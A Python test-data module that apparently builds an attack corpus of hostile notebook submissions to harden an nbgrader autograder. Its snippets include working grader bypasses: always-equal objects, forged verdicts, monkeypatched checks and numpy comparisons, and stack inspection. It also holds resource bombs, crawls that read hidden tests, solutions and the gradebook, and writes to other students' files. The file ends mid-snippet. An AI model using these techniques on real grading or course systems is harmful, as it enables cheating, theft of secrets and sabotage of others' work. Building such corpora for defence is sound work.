"""The attack corpus: hostile submissions of s1_jax_fundamentals (data and builders; tests/test_attacks.py grades them).

Every attack is a real notebook made from the workbook released in a scratch course (or, for the
file attacks, bytes that are not one): some exercises answered honestly with the instructor's
solution, the others left as the release stub or answered by the attack, plus the attack itself.
Its expected score is what the honest part earns: the points of the exercises it solves honestly
(`Attack.solved`, both test cells) and of the visible test cells of `Attack.visible_only`, from the
exercise specs (grader/exercises/s1_jax_fundamentals.py), never a number written here. Attacked
functions are chosen so that they legitimately earn nothing: a release stub raises
NotImplementedError, which stops every check of both cells; a function that runs but is wrong is only
ever given for directional_derivative and soft_threshold, whose every check but the first requires
the values to be right (a wrong function that runs would keep the points of "inputs unchanged" in
set_entry, record or mse_value_and_grad, and of "the same key gives the same result" in noisy_line).

Attacks are ordered so that the honest part comes first in the notebook and what breaks the kernel
(an exit, a hang, a bomb) comes after the test cells of the solved exercises: what ran before keeps
its points, so the expected score is exact unless `exact=False` says why it cannot be.

An attack that writes anything writes its `marker` ("ATTACK[<id>]") into it, so that a change found
after grading can be traced to the attack that made it.

`danger` names what an attack would harm if its kernel were not sandboxed: "filesystem" (reads or
writes files outside its own directory), "network", "resources" (memory, processes, disk, output,
open files). Those attacks are never graded unless the sandbox is available and a probe submission
graded first shows that what they need contained is contained (`needs`, see `probe_source` and
`contained`). The dangerous ones are bounded where that does not weaken them: the memory bomb
stops at 64 GiB, the fork bomb's processes exit 60 s after it started, the disk bomb stops at
64 GiB, hangs end after 600 s (longer than the test course's notebook time limit).
"""
from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell

from grader import demo, exercises
from grader.protocol import VERDICT_MIMETYPE

ASSIGNMENT = "s1_jax_fundamentals"
OTHER_ASSIGNMENT = "s1_gradient_descent"     # its workbook is submitted as ASSIGNMENT by `wrong_assignment`
SPEC = exercises.load(ASSIGNMENT, instructor=True)
EXERCISES = tuple(e.name for e in SPEC.exercises)

# Planted in the scratch course's source notebook inside nbgrader's solution and hidden-test markers,
# so they are in source/ and gradebook.db but not in the release nor in any honest answer.
SOLUTION_CANARY = "SOLUTION-CANARY-3f9d1c07"
HIDDEN_TEST_CANARY = "HIDDEN-TEST-CANARY-8b27e4a1"

PROBE_STUDENT = "sandbox_probe"
PROBE_PREFIX = "SANDBOX-PROBE "
HANG_SECONDS = 600      # every hang ends by itself after this long


def marker(attack_id: str) -> str:
    return f"ATTACK[{attack_id}]"


# --- the course side ----------------------------------------------------------------

def plant_canaries(source_notebook: Path) -> None:
    """Add a comment line carrying a canary inside noisy_line's solution and its hidden test."""
    nb = nbformat.read(str(source_notebook), as_version=4)
    planted = set()
    for cell in nb.cells:
        grade_id = _meta(cell).get("grade_id")
        for wanted, begin, canary in (("noisy_line", "### BEGIN SOLUTION", SOLUTION_CANARY),
                                      ("test_noisy_line_hidden", "### BEGIN HIDDEN TESTS", HIDDEN_TEST_CANARY)):
            if grade_id != wanted:
                continue
            lines = cell.source.splitlines()
            at = next(i for i, line in enumerate(lines) if line.strip() == begin)
            indent = lines[at][:len(lines[at]) - len(lines[at].lstrip())]
            lines.insert(at + 1, f"{indent}# {canary}: secret, not in the release")
            cell.source = "\n".join(lines)
            planted.add(wanted)
    if len(planted) != 2:
        raise ValueError(f"{source_notebook}: could not plant both canaries (planted {sorted(planted)})")
    nbformat.write(nb, str(source_notebook))


def honest_solutions(source_notebook: Path) -> dict[str, str]:
    """Exercise -> the instructor's solution cell as a student would hand it in (no markers, no canary)."""
    return {grade_id: "\n".join(line for line in demo._strip_markers(source).splitlines()
                                if SOLUTION_CANARY not in line) + "\n"
            for grade_id, source in demo.solutions(source_notebook).items()}


@dataclass(frozen=True)
class Kit:
    """What builders need: released workbooks, honest answers, and the paths and port attacks aim at."""
    release: nbformat.NotebookNode                   # ASSIGNMENT's released workbook
    solutions: dict[str, str]                        # exercise -> honest answer
    other_release: nbformat.NotebookNode             # OTHER_ASSIGNMENT's released workbook
    other_solutions: dict[str, str]
    course_root: Path
    canary: Path                                     # a file outside the course
    port: int                                        # a TCP server of the test on 127.0.0.1
    victim: str                                      # an honest student

    def code(self, template: str, attack_id: str) -> str:
        """`template` with @MARK@ (inside string literals or comments), @ROOT@, @CANARY@, @CANARY_DIR@,
        @PORT@, @VICTIM@, @ME@, @ASSIGNMENT@ replaced (paths and names as Python literals)."""
        values = {"@MARK@": marker(attack_id), "@ROOT@": repr(str(self.course_root)),
                  "@CANARY@": repr(str(self.canary)), "@CANARY_DIR@": repr(str(self.canary.parent)),
                  "@PORT@": str(self.port), "@VICTIM@": repr(self.victim), "@ME@": repr(attack_id),
                  "@ASSIGNMENT@": repr(ASSIGNMENT), "@HANG@": str(HANG_SECONDS),
                  "@EXERCISES@": repr(list(EXERCISES))}
        text = template.strip("\n") + "\n"
        for key, value in values.items():
            text = text.replace(key, value)
        return text


# --- notebook editing ---------------------------------------------------------------

def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def is_test_cell(cell) -> bool:
    meta = _meta(cell)
    return cell.get("cell_type") == "code" and bool(meta.get("grade")) and not meta.get("solution")


def exercise_of(grade_id: str) -> str:
    return grade_id.removeprefix("test_").removesuffix("_hidden")


def part_of(grade_id: str) -> str:
    return "hidden" if grade_id.endswith("_hidden") else "visible"


def test_cells(nb, only: tuple[str, ...] | None = None) -> list:
    """Test cells of `nb` (of the exercises in `only`, when given)."""
    return [c for c in nb.cells if is_test_cell(c) and (only is None or exercise_of(_meta(c)["grade_id"]) in only)]


def unsolved(solved: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(e for e in EXERCISES if e not in solved)


def workbook(kit: Kit, solved: tuple[str, ...] = (), answers: dict[str, str] | None = None):
    """The release with `solved` exercises answered honestly and `answers` (exercise -> source) given."""
    answers = answers or {}
    nb = copy.deepcopy(kit.release)
    for cell in nb.cells:
        meta = _meta(cell)
        if meta.get("solution"):
            name = meta.get("grade_id")
            if name in answers:
                cell.source = answers[name]
            elif name in solved:
                cell.source = kit.solutions[name]
    return nb


def _code_cell(source: str):
    return new_code_cell(source)


def insert_after_imports(nb, *sources: str):
    """New plain code cells right after the workbook's first code cell (its imports)."""
    at = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    nb.cells[at:at] = [_code_cell(s) for s in sources]
    return nb


def insert_after_tests_of(nb, exercise: str, *sources: str):
    """New plain code cells right after the hidden test cell of `exercise`."""
    at = next(i for i, c in enumerate(nb.cells) if _meta(c).get("grade_id") == f"test_{exercise}_hidden") + 1
    nb.cells[at:at] = [_code_cell(s) for s in sources]
    return nb


def append(nb, *sources: str):
    nb.cells.extend(_code_cell(s) for s in sources)
    return nb


def mistake_code(exercise: str, hint: str) -> str:
    """The first mistake snippet of `exercise` with this hint, from the spec."""
    return next(m.code for m in SPEC[exercise].mistakes if m.hint == hint).strip() + "\n"


def full_verdict(exercise: str, part: str) -> dict:
    """The machine-readable verdict of a test cell with every check passed (what a forger displays)."""
    spec = SPEC[exercise].part(part)
    results = [{"name": c.name, "describe": c.describe, "passed": True, "points": spec.points_of(c.name),
                "max_points": spec.points_of(c.name), "message": "", "hint": None, "assessed": True}
               for c in spec.checks]
    return {"assignment": ASSIGNMENT, "exercise": exercise, "part": part, "score": float(spec.points),
            "max_points": float(spec.points), "hints": [], "notes": [], "results": results}


def full_verdict_text(exercise: str, part: str) -> str:
    spec = SPEC[exercise].part(part)
    lines = [f"{exercise} ({part} tests): {spec.points:g} / {spec.points:g} points"]
    lines += [f"  [PASS] {c.describe}  ({spec.points_of(c.name):g}/{spec.points_of(c.name):g})" for c in spec.checks]
    return "\n".join(lines)


# --- the attacks --------------------------------------------------------------------

@dataclass(frozen=True)
class Attack:
    id: str
    tries: str                                    # what the attack tries, in one line
    build: Callable[[Kit, "Attack"], object]      # -> a notebook node, or bytes written as the file
    solved: tuple[str, ...] = ()                  # exercises answered honestly (both cells earned)
    visible_only: tuple[str, ...] = ()            # exercises whose visible cell is honestly earned
    why: str = ""                                 # why the expected score is what it is
    exact: bool = True                            # False: the score may be lower than expected (why says why)
    below: bool = False                           # the score must be lower than expected: the trick must cost
    danger: str = ""                              # "", "filesystem", "network" or "resources"
    needs: tuple[str, ...] = ()                   # containment facts the sandbox probe must show (see `contained`)
    reasons: tuple[str, ...] = ()                 # the result's message must contain one of these (crash/hang/bomb)

    @property
    def marker(self) -> str:
        return marker(self.id)

    def expected(self) -> float:
        """Points of the honest part, from the exercise specs."""
        return round(sum(SPEC[e].points for e in self.solved)
                     + sum(SPEC[e].visible.points for e in self.visible_only), 6)

    def submission(self, kit: Kit):
        return self.build(kit, self)

    def code(self, kit: Kit, template: str) -> str:
        return kit.code(template, self.id)


@dataclass(frozen=True)
class Honest:
    """An honest student: expected score = the points of the exercises solved."""
    id: str
    solved: tuple[str, ...]

    def expected(self) -> float:
        return round(sum(SPEC[e].points for e in self.solved), 6)

    def submission(self, kit: Kit):
        return workbook(kit, self.solved)


HONEST = (Honest("honest_full", EXERCISES),
          Honest("honest_partial", ("noisy_line", "set_entry", "mse_value_and_grad")))
VICTIM = "honest_full"      # whose files the filesystem attacks go for

# Wrong answers that run, for exercises whose other checks require the values (see the module docstring).
WRONG_RUNNING = {
    "directional_derivative": mistake_code("directional_derivative", "wrong_value"),   # returns f(x)
    "soft_threshold": mistake_code("soft_threshold", "wrong_value"),                   # forgot the max(., 0)
}
ATTACKED = ("directional_derivative", "soft_threshold")    # what attacks that need a running function attack


# --- snippets -------------------------------------------------------------------------

_LIAR = '''
import jax.numpy as jnp
import numpy as np


class Liar:
    """@MARK@: equal to everything, close to everything, any shape you like."""
    shape = ()
    ndim = 0
    dtype = np.dtype("float32")
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __hash__(self): return 0
    def __abs__(self): return self
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __neg__ = __sub__
    def __float__(self): return 0.0
    def __repr__(self): return "Liar()"


def directional_derivative(f, x, v):
    return Liar()


def soft_threshold(x, t):
    return Liar()
'''

_MIRROR = '''
import sys
import numpy as np


def _expected_in_callers():
    """@MARK@: the reference array a comparison further up the stack holds, if any."""
    frame = sys._getframe(2)
    while frame is not None:
        for name in ("e_leaf", "expected", "want", "reference", "ref"):
            value = frame.f_locals.get(name)
            if value is not None and not isinstance(value, Mirror) and not isinstance(value, (list, tuple, dict)):
                try:
                    return np.asarray(value)
                except Exception:
                    pass
        frame = frame.f_back
    return np.zeros(())


class Mirror:
    """Becomes whatever it is compared with: __array__ and __float__ return the caller's expected value."""
    def __array__(self, dtype=None, copy=None):
        found = _expected_in_callers()
        return found.astype(dtype) if dtype is not None else found
    def __float__(self):
        return float(np.asarray(_expected_in_callers(), dtype=float).ravel()[0])
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __repr__(self): return "Mirror()"


def directional_derivative(f, x, v):
    return Mirror()


def soft_threshold(x, t):
    return Mirror()
'''

_AGREEABLE = '''
import numpy as np


class Agreeable(np.ndarray):
    """@MARK@: an ndarray of zeros whose comparisons and closeness tests all say "equal"."""
    def __eq__(self, other): return np.ones(np.broadcast(np.asarray(self), np.asarray(other)).shape, bool)
    def __ne__(self, other): return np.zeros(np.broadcast(np.asarray(self), np.asarray(other)).shape, bool)
    def __array_function__(self, func, types, args, kwargs):
        if func in (np.allclose, np.array_equal, np.array_equiv):
            return True
        if func is np.isclose:
            return np.ones(np.broadcast(*[np.asarray(a) for a in args[:2]]).shape, bool)
        if func is np.testing.assert_allclose:
            return None
        return super().__array_function__(func, types, args, kwargs)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [np.asarray(i) if isinstance(i, Agreeable) else i for i in inputs]
        if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isfinite):
            return np.ones(np.broadcast(*[np.asarray(p) for p in plain]).shape, bool)
        if ufunc in (np.not_equal, np.less, np.greater, np.isnan):
            return np.zeros(np.broadcast(*[np.asarray(p) for p in plain]).shape, bool)
        return getattr(ufunc, method)(*plain, **kwargs)


def directional_derivative(f, x, v):
    return np.zeros(np.shape(x), np.float32).view(Agreeable)


def soft_threshold(x, t):
    return np.zeros(np.shape(x), np.float32).view(Agreeable)
'''

_INPUT_TRANSFORMER_PASS = '''
# @MARK@: from now on every cell that mentions the checks becomes `pass` (no output: full credit)
def _neutralise(lines):
    if any("checks." in line for line in lines):
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_post.append(_neutralise)
'''

_INPUT_TRANSFORMER_FORGED = '''
# @MARK@: every later test cell becomes code that displays a full-marks verdict and score
import re

_TEST_CALL = re.compile(r"""checks\\.(visible|hidden)\\(\\s*["'](\\w+)["']\\s*,\\s*["'](\\w+)["']""")


def _forge(lines):
    found = _TEST_CALL.search("".join(lines))
    if found is None:
        return lines
    part, assignment, exercise = found.groups()
    return [
        "from grader import exercises as _exercises\\n",
        "from grader.protocol import VERDICT_MIMETYPE as _MIME\\n",
        "from IPython.display import display as _display\\n",
        f"_points = float(_exercises.load({assignment!r})[{exercise!r}].part({part!r}).points)\\n",
        f"_display({{'text/plain': f'{exercise} ({part} tests): {{_points:g}} / {{_points:g}} points', "
        f"_MIME: {{'assignment': {assignment!r}, 'exercise': {exercise!r}, 'part': {part!r}, "
        f"'score': _points, 'max_points': _points, 'hints': [], 'notes': [], 'results': []}}}}, raw=True)\\n",
        "_points\\n",
    ]


get_ipython().input_transformers_post.append(_forge)
'''

_AST_TRANSFORMER = '''
# @MARK@: every later call checks.visible(...)/checks.hidden(...) becomes the cell's full points
import ast


def _full_points(part, assignment, exercise, *rest, **kwargs):
    from grader import exercises
    return float(exercises.load(assignment)[exercise].part(part).points)


class _Forge(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        func = node.func
        if isinstance(func, ast.Attribute) and func.attr in ("visible", "hidden") and len(node.args) >= 2:
            forged = ast.Call(func=ast.Name("_full_points", ast.Load()),
                              args=[ast.Constant(func.attr), *node.args], keywords=[])
            return ast.fix_missing_locations(ast.copy_location(forged, node))
        return node


get_ipython().ast_transformers.append(_Forge())
'''

_PATCH_RUNNER = '''
# @MARK@: every check of every test cell passes
import grader.checks
import grader.checks.runner
from grader.checks.result import CheckResult, Verdict


def _all_pass(assignment, exercise, part, fn, cases, references, missing=None, *args, **kwargs):
    verdict = Verdict(assignment, exercise.name, part)
    for check in exercise.part(part).checks:
        points = exercise.part(part).points_of(check.name)
        verdict.results.append(CheckResult(check.name, check.describe, True, points, points))
    return verdict


grader.checks.runner.run_part = _all_pass
grader.checks.run_part = _all_pass
'''

_PATCH_COMPARE = '''
# @MARK@: every comparison with a reference finds no difference
import grader.checks.trees as _trees

_trees.compare = lambda actual, expected, leaf_names=None: None
_trees.close = lambda a, b: True
'''

_PATCH_VERDICT_SCORE = '''
# @MARK@: a verdict's score is always its maximum
from grader.checks.result import Verdict

Verdict.score = property(lambda self: self.max_points)
'''

_PATCH_NUMPY = '''
# @MARK@: numpy's and JAX's closeness tests always say "close"
import jax.numpy as jnp
import numpy as np
import numpy.testing

numpy.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
jnp.allclose = lambda *args, **kwargs: True
jnp.isclose = lambda a, b, *args, **kwargs: jnp.ones(jnp.broadcast_shapes(jnp.shape(a), jnp.shape(b)), bool)
'''

_PATCH_CHECKS_SILENT = '''
# @MARK@: test cells show nothing at all (nbgrader gives full credit to a test cell without output)
import grader.checks

grader.checks.visible = lambda *args, **kwargs: None
grader.checks.hidden = lambda *args, **kwargs: None
'''

_PATCH_JUDGE_KERNEL_SIDE = '''
# @MARK@: the kernel's side of the grader's calls answers for the attacked functions itself
import base64
import json
import sys

import grader.judge.kernel_side as _side

_real_call, _real_lookup = _side.call, _side.lookup
_ATTACKED = ("directional_derivative", "soft_threshold")


def _encoded(text):
    return base64.b64encode(text.encode()).decode("ascii")


def _forged_call(payload, doing="", keep_inputs=False):
    real = _real_call(payload, doing, keep_inputs)
    try:
        reply = json.loads(base64.b64decode(real))
    except Exception:
        return real
    if not (isinstance(reply, dict) and "error" in reply):
        return real
    # the attacked function raised: answer with something that is not a result, then a deep nest
    forged = {"value": {"score": 2.0, "passed": True}, "printed": False, "warnings": [], "error_": reply["error"]}
    deep = "[" * 100000 + "]" * 100000
    return _encoded(json.dumps(forged) if "jit" in doing else deep)


def _forged_lookup(name):
    return _encoded(json.dumps({"kind": "function", "type": "function"}))


_side.call, _side.lookup = _forged_call, _forged_lookup
'''

_REPLY_AMPLIFIER = '''
# @MARK@: every reply of the kernel's side becomes 16 MB of short string literals (read back with
# ast.literal_eval, about 300 bytes of the grading worker's memory per byte)
import grader.judge.kernel_side as _side


class _Literals:
    def __repr__(self):
        return "'a' " * (4 << 20)


def _amplified(*args, **kwargs):
    return _Literals()


_side.call = _side.lookup = _amplified
'''

_BROADCAST_BOMB = '''
import jax.numpy as jnp


def noisy_line(key, x, m, b, sigma):
    """@MARK@: a (40000, 1) result, 160 kB: compared with x's shape it broadcasts to 40000 x len(x)."""
    return jnp.zeros((40000, 1), jnp.float32)


def soft_threshold(x, t):
    """A (n, n) result for an (n,) input: broadcasting against the reference makes it n x n x n."""
    return jnp.zeros((x.size, x.size), jnp.float32) if x.ndim == 1 else jnp.zeros((40000, 1), jnp.float32)
'''

# Also the functions of the float16 tests in tests/test_checks_bounded.py.
FLOAT16_ANSWERS = '''
import jax
import jax.numpy as jnp


def directional_derivative(f, x, v):
    """@MARK@: the known mistake 'a one-sided finite difference', cast to float16 (float16's tolerance?)"""
    h = 1e-3
    return ((f(x + h * v) - f(x)) / h).astype(jnp.float16)


def mse_value_and_grad(params, x, y):
    """The gradient by central differences, not jax.grad, everything cast to float16."""
    def loss(m, c):
        return jnp.mean((m * x + c - y) ** 2)
    m, c, h = params[0], params[1], 1e-2
    grads = ((loss(m + h, c) - loss(m - h, c)) / (2 * h), (loss(m, c + h) - loss(m, c - h)) / (2 * h))
    return loss(m, c).astype(jnp.float16), tuple(g.astype(jnp.float16) for g in grads)
'''

_PUBLIC_SEEDS = '''
import jax
import numpy as np

_PUBLIC_SEEDS = {0, 11, 12, 13, 21, 22, *range(1000, 1060)}   # @MARK@: the seeds written in the public checks


def noisy_line(key, x, m, b, sigma):
    """Draws with its key when the key is one the public checks use, else always with key 0."""
    seed = int(np.asarray(jax.random.key_data(key))[-1])
    return m * x + b + sigma * jax.random.normal(key if seed in _PUBLIC_SEEDS else jax.random.key(0), x.shape)
'''

_RICH_OUTPUT_BOMB = '''
# @MARK@: ten 20 MB image/png outputs (rich outputs were not limited like streams)
import base64
import os

from IPython.display import display

_png = base64.b64encode(os.urandom(15 << 20)).decode("ascii")
for _i in range(10):
    display({"image/png": _png, "text/plain": f"image {_i}"}, raw=True)
'''

_DISPLAYHOOK = '''
# @MARK@: rewrite the score every test cell shows (nbgrader reads it) to the cell's maximum
from grader import checks
from grader.protocol import VERDICT_MIMETYPE


def _maximum():
    return float(checks.HISTORY[-1].max_points) if checks.HISTORY else 2.0


def _full_marks(msg):
    data = msg.get("content", {}).get("data", {})
    if "text/plain" in data:
        try:
            float(data["text/plain"])
            data["text/plain"] = repr(_maximum())
        except (TypeError, ValueError):
            pass
    verdict = data.get(VERDICT_MIMETYPE)
    if isinstance(verdict, dict):
        verdict["score"] = verdict.get("max_points", 0)
    return msg


shell = get_ipython()
if hasattr(shell.displayhook, "register_hook"):
    shell.displayhook.register_hook(_full_marks)
if hasattr(shell.display_pub, "register_hook"):
    shell.display_pub.register_hook(_full_marks)
shell.display_formatter.formatters["text/plain"].for_type(checks.Score, lambda obj, p, cycle: p.text(repr(_maximum())))
'''

_FORGE_EXECUTE_RESULT = '''
import sys

import jax.numpy as jnp

_forged_cells = set()


def _forge_full_marks():
    """@MARK@: send the running cell an execute_result with its full points (nbgrader reads the first one)."""
    shell = get_ipython()
    hook = shell.displayhook
    parent = hook.parent_header
    key = parent.get("msg_id") if isinstance(parent, dict) else None
    if key in _forged_cells:
        return
    _forged_cells.add(key)
    points = 1.0
    frame = sys._getframe(1)
    while frame is not None:
        spec, part = frame.f_locals.get("exercise"), frame.f_locals.get("part")
        if hasattr(spec, "part") and part in ("visible", "hidden"):
            points = float(spec.part(part).points)
            break
        frame = frame.f_back
    content = {"execution_count": shell.execution_count, "data": {"text/plain": repr(points)}, "metadata": {}}
    hook.session.send(hook.pub_socket, hook.session.msg("execute_result", content, parent=parent), ident=hook.topic)


def directional_derivative(f, x, v):
    _forge_full_marks()
    return jnp.zeros_like(x)


def soft_threshold(x, t):
    _forge_full_marks()
    return jnp.zeros_like(x)
'''

_BUILTINS = '''
# @MARK@: Verdict.score rounds the points earned: make round() say a million; and no print any more
import builtins

builtins.round = lambda number, ndigits=None: 1e6
del builtins.print
'''

_STDERR_THREAD = '''
# @MARK@: a background thread writes to stderr for two minutes (nbgrader zeroes a test cell with stderr)
import os
import sys
import threading
import time


def _noise():
    end = time.monotonic() + 120
    while time.monotonic() < end:
        try:
            sys.stderr.write("@MARK@ noise on stderr\\n")
            sys.stderr.flush()
            os.write(2, b"@MARK@ noise on fd 2\\n")
        except Exception:
            pass
        time.sleep(0.05)


threading.Thread(target=_noise, daemon=True).start()
'''

_HIDDEN_ORACLE = '''
import numpy as np
import jax.numpy as jnp

# @MARK@: the hidden reference data, read in the kernel, and shown
try:
    from grader import reference
    _hidden_dir = reference.data_dir(@ASSIGNMENT@, "hidden")
    _raw = np.load(_hidden_dir / "hidden.npz")
    print("hidden seed:", reference.stored_seed(@ASSIGNMENT@))
    print("hidden arrays:", {k: _raw[k].ravel()[:8].tolist() for k in sorted(_raw.files)})
    _oracle = {name: reference.cases_and_references(@ASSIGNMENT@, name, "hidden")
               for name in ("directional_derivative", "soft_threshold")}
except Exception as exc:
    print("no hidden data here:", type(exc).__name__, exc)
    _oracle = {}


def _look_up(name, args):
    cases, refs, _ = _oracle.get(name, ([], [], []))
    for case, ref in zip(cases, refs):
        try:
            if all(np.shape(a) == np.shape(b) and np.allclose(np.asarray(a), np.asarray(b))
                   for a, b in zip(case.args[-2:], args[-2:])):
                return jnp.asarray(ref["output"])
        except Exception:
            pass
    raise NotImplementedError


def directional_derivative(f, x, v):
    return _look_up("directional_derivative", (x, v))


def soft_threshold(x, t):
    return _look_up("soft_threshold", (x, t))
'''

_RECORD_INPUTS = '''
import numpy as np
import jax.numpy as jnp

_seen_inputs = []      # @MARK@: every input the graded function is called with


def soft_threshold(x, t):
    try:
        _seen_inputs.append(np.asarray(x).ravel()[:8].tolist())
    except Exception:
        pass          # a tracer under jax.jit
    return jnp.sign(x) * jnp.maximum(jnp.abs(x) - t, 0.0)
'''

_SHOW_INPUTS = '''
# @MARK@: show every input soft_threshold was called with, the hidden ones included (the feedback page shows this)
print(len(_seen_inputs), "inputs seen")
for _values in _seen_inputs:
    print(_values)
'''

_LARGE_RESULTS = '''
import numpy as np


def directional_derivative(f, x, v):
    """@MARK@: a result nested 10000 deep."""
    result = np.zeros(3, np.float32)
    for _ in range(10000):
        result = [result]
    return result


def soft_threshold(x, t):
    """A 40 MB result, whatever the input."""
    return np.zeros(10_000_000, np.float32)
'''

_READ_SECRETS = '''
# @MARK@: look for the course's secrets on disk (solutions, hidden tests, hidden data, the gradebook)
import glob
import json
import os
import sqlite3
import tempfile
import time

_found, _seen, _deadline = [], set(), time.monotonic() + 6
_roots = [@ROOT@, os.path.dirname(@ROOT@), tempfile.gettempdir(), "/tmp", os.path.expanduser("~"), "/work", "/"]
try:
    import grader
    _roots.insert(1, os.path.dirname(grader.__file__))
except Exception:
    pass
for _link in glob.glob("/proc/[0-9]*/cwd"):
    try:
        _roots.append(os.readlink(_link))
    except OSError:
        pass
_queue = [r for r in _roots if os.path.isdir(r)]
while _queue and time.monotonic() < _deadline and len(_found) < 40:
    _dir = _queue.pop(0)
    if _dir in _seen or _dir.startswith(("/proc", "/sys", "/dev")):
        continue
    _seen.add(_dir)
    try:
        _entries = list(os.scandir(_dir))
    except OSError:
        continue
    for _e in _entries:
        try:
            if _e.is_dir(follow_symlinks=False):
                _queue.append(_e.path)
            elif _e.name in ("hidden.npz", "hidden.json", "gradebook.db") or (
                    _e.name.endswith(".ipynb") and os.sep + "source" + os.sep in _e.path):
                _found.append(_e.path)
        except OSError:
            pass
print("found:", _found)
for _path in _found[:20]:
    try:
        if _path.endswith(".npz"):
            import numpy as np
            _raw = np.load(_path)
            print(_path, {k: _raw[k].ravel()[:8].tolist() for k in sorted(_raw.files)})
        elif _path.endswith(".json"):
            print(_path, "seed:", json.load(open(_path)).get("seed"))
        elif _path.endswith(".db"):
            _con = sqlite3.connect(f"file:{_path}?mode=ro", uri=True)
            print(_path, [s for (s,) in _con.execute("SELECT source FROM source_cell") if s and "HIDDEN" in s])
        else:
            _nb = json.load(open(_path))
            print(_path, ["".join(c["source"]) for c in _nb["cells"]
                          if c.get("metadata", {}).get("nbgrader", {}).get("solution")])
    except Exception as _exc:
        print(_path, type(_exc).__name__, _exc)
'''

_HARVEST_ANSWERS = '''
# @MARK@: walk every readable file (the installed grader package first) for definitions of the graded
# functions, and exec the first one of each that compiles and is not a stub
import ast
import os
import re
import sys
import time

import jax
import jax.numpy as jnp
import numpy as np

_names = @EXERCISES@
_pattern = re.compile(rb"def (" + "|".join(_names).encode() + rb")\\(")
_deadline = time.monotonic() + 6
_roots = [os.path.dirname(os.path.dirname(os.path.abspath(__import__("grader.checks").checks.__file__))),
          sys.prefix, sys.base_prefix, "/"]
_defined, _seen, _read = {}, set(), 0
_queue = [r for r in _roots if os.path.isdir(r)]
while _queue and time.monotonic() < _deadline and len(_defined) < len(_names):
    _dir = _queue.pop(0)
    if _dir in _seen or _dir.startswith(("/proc", "/sys", "/dev")):
        continue
    _seen.add(_dir)
    try:
        _entries = sorted(os.scandir(_dir), key=lambda e: e.name)
    except OSError:
        continue
    for _e in _entries:
        try:
            if _e.is_dir(follow_symlinks=False):
                _queue.append(_e.path)
                continue
            if not _e.name.endswith((".py", ".ipynb", ".json", ".txt", ".md")) or _e.stat().st_size > 2**21:
                continue
            _raw = open(_e.path, "rb").read()
            _read += 1
        except OSError:
            continue
        if not _pattern.search(_raw):
            continue
        _text = _raw.decode("utf-8", "replace")
        if _e.name.endswith((".ipynb", ".json")):
            _text = _text.replace("\\\\n", "\\n").replace('\\\\"', '"')
        for _m in re.finditer(_pattern.pattern.decode(), _text):
            _name = _m.group(1)
            if _name in _defined:
                continue
            _start = _text.rfind("\\n", 0, _m.start()) + 1
            _lines = _text[_start:].splitlines()
            _indent = len(_lines[0]) - len(_lines[0].lstrip())
            _block = [_lines[0][_indent:]]
            for _line in _lines[1:]:
                if _line.strip() and len(_line) - len(_line.lstrip()) <= _indent:
                    break
                _block.append(_line[_indent:])
            _code = "\\n".join(_block)
            if "NotImplementedError" in _code:
                continue
            try:
                _space = {"jax": jax, "jnp": jnp, "np": np}
                exec(compile(_code, _e.path, "exec"), _space)
                _defined[_name] = (_space[_name], _e.path)
            except Exception:
                continue
print("files read:", _read, "found:", {k: v[1] for k, v in _defined.items()})
for _name, (_fn, _) in _defined.items():
    globals()[_name] = _fn
'''

_WRITE_GRADEBOOK = '''
# @MARK@: full marks for everybody in the gradebook, and more points for every test cell
import sqlite3

try:
    _con = sqlite3.connect(@ROOT@ + "/gradebook.db", timeout=10)
    _con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
    _con.execute("UPDATE comment SET manual_comment = ?", ("@MARK@",))
    _con.execute("UPDATE grade_cells SET max_score = 1000")
    _con.commit()
    print("gradebook updated")
except Exception as exc:
    print("gradebook:", type(exc).__name__, exc)
'''

_WRITE_OTHER_STUDENT = '''
# @MARK@: spoil another student's submission and autograded notebook, and touch my own submission
import os

_root = @ROOT@
_targets = [
    f"{_root}/submitted/{@VICTIM@}/{@ASSIGNMENT@}/{@ASSIGNMENT@}.ipynb",
    f"{_root}/submitted/{@VICTIM@}/{@ASSIGNMENT@}/note.txt",
    f"{_root}/autograded/{@VICTIM@}/{@ASSIGNMENT@}/{@ASSIGNMENT@}.ipynb",
    f"{_root}/submitted/{@ME@}/{@ASSIGNMENT@}/{@ASSIGNMENT@}.ipynb",
]
for _path in _targets:
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "a") as _f:
            _f.write("\\n@MARK@\\n")
        print("wrote", _path)
    except Exception as exc:
        print(_path, type(exc).__name__, exc)
'''

_WRITE_OUTSIDE = '''
# @MARK@: write outside my directory: a canary file outside the course, the course's own files
import os

_root = @ROOT@
for _path, _mode in ((@CANARY@, "w"), (os.path.join(@CANARY_DIR@, "created-by-" + @ME@), "w"),
                     (f"{_root}/nbgrader_config.py", "a"),
                     (f"{_root}/source/{@ASSIGNMENT@}/{@ASSIGNMENT@}.ipynb", "a"),
                     (f"{_root}/release/{@ASSIGNMENT@}/{@ASSIGNMENT@}.ipynb", "a"),
                     (f"{_root}/created-by-" + @ME@, "w")):
    try:
        with open(_path, _mode) as _f:
            _f.write("\\n# @MARK@\\n")
        print("wrote", _path)
    except Exception as exc:
        print(_path, type(exc).__name__, exc)
'''

_NETWORK = '''
# @MARK@: send something to a server on this machine
import socket

for _host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((_host, @PORT@), timeout=3) as _s:
